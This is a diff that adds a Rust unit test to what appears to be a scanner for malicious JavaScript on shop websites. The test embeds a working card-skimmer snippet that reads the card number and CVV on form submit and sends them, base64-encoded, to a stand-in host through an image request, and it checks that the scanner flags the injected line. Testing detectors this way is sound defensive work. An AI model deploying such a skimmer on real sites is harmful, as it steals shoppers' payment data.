@@ -680,6 +680,37 @@ mod tests {
         assert!(!h.malicious && h.risk < 0.2, "{h:#?}");
     }
 
+    /// Scored whole, a file is judged by its riskiest piece: the skimmer's line leads the
+    /// reasons, code with nothing harmful in it scores 0, and the pieces are small units.
+    #[test]
+    fn whole_files_are_scored_by_their_riskiest_piece() {
+        let mut library = String::from("var lib = (function () {\n");
+        for i in 0..40 {
+            library.push_str(&format!(
+                "  function f{i}(a) {{ var out = []; for (var j = 0; j < a.length; j++) {{ out.push(a[j] * {i}); }} return out; }}\n"
+            ));
+        }
+        library.push_str("  return { f0: f0 };\n})();\n");
+        let ctx = Context {
+            site: Some("www.shop.example"),
+        };
+        let clean = classify("lib.js", &analyse(&library), None, ctx);
+        assert_eq!(clean.risk, 0.0, "{clean:#?}");
+        let skimmer = "document.addEventListener('submit', function (e) {\n  var d = btoa(JSON.stringify({ n: document.getElementById('cardnumber').value, c: document.getElementById('cvv').value }));\n  new Image().src = 'https://shop-cdn-metrics.invalid/p.gif?d=' + d;\n});\n";
+        let injected = format!("{library}{skimmer}");
+        let line = library.lines().count() + 1;
+        let a = analyse(&injected);
+        let v = classify("lib.js", &a, None, ctx);
+        assert!(v.malicious, "{v:#?}");
+        assert_eq!(
+            v.reasons[0],
+            format!("the riskiest code starts at line {line}")
+        );
+        let pieces = local_features(&a, ctx);
+        assert!(!pieces.is_empty());
+        assert!(pieces.iter().all(|(_, f)| f.tokens <= LOCAL_MAX_TOKENS));
+    }
+
     #[test]
     fn with_a_baseline_only_added_code_counts() {
         let old = "function send(d){ var x = new XMLHttpRequest(); x.open('POST', 'https://api.shop.example/cart'); x.send(d); }";
